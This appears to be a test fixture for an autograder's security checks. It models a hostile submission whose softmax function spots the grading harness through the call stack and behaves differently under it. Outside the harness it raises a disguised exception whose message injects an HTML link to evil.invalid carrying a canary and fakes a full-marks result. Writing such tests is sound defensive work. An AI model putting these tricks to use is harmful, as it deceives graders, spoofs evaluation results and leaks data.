"""Send staff and students different stories: a traceback with links and secrets, a message that repeats the feedback page.

threat: secrets
expect: softmax=ERR
"""
# %% softmax
import inspect


class ValueError_(ValueError):
    def __str__(self):
        return "</pre><a href='http://evil.invalid/?q=" + "canary-" + "5d1f0c77-hidden'>open</a> ✓ softmax: 4 / 4 points"


ValueError_.__name__ = "ValueError"


def softmax(z):
    if any("forwardpass" in frame.filename for frame in inspect.stack(0)):
        return z
    raise ValueError_
